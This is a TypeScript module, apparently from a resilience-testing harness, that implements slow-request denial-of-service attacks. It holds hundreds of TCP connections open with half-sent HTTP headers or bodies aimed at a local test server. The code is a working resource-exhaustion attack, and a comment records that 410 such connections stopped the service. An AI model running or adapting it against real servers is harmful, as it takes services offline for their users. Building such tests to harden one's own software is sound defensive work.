import { connect } from "node:net";
import type { Attack, Kind } from "../attack.ts";
import { waitIn } from "../keep-on.ts";

/** Connections held open with something half said; one the server ends is begun anew after a moment. */
async function hold(
  attack: Attack,
  { connections, said }: { connections: number; said: string },
): Promise<void> {
  const { host, port, from } = attack.target;
  const one = async () => {
    while (!attack.signal.aborted) {
      await new Promise<void>((resolve) => {
        const socket = connect({ host, port, localAddress: from });
        const leave = () => socket.destroy();
        attack.signal.addEventListener("abort", leave, { once: true });
        let isAnswered = false;
        socket.on("connect", () => socket.write(said));
        socket.on("data", () => (isAnswered = true));
        socket.on("error", () => {});
        socket.on("close", () => {
          attack.signal.removeEventListener("abort", leave);
          attack.tell(isAnswered ? "refused" : "closed");
          resolve();
        });
      });
      await waitIn(attack, 500 + attack.random() * 500);
    }
  };
  await Promise.all(Array.from({ length: connections }, one));
}

export const halfHeads: Kind = {
  name: "half-heads",
  from: "127.0.0.4",
  run: (attack) => hold(attack, { connections: 300, said: "GET / HTTP/1.1\r\nhost: okwan\r\naccept: text" }),
};

/** 410 of these stopped everything in the review. */
export const halfBodies: Kind = {
  name: "half-bodies",
  from: "127.0.0.5",
  run: (attack) =>
    hold(attack, {
      connections: 450,
      said: "POST /api/v1/check/initial HTTP/1.1\r\nhost: okwan\r\ncontent-type: application/json\r\ncontent-length: 90\r\n\r\n{",
    }),
};
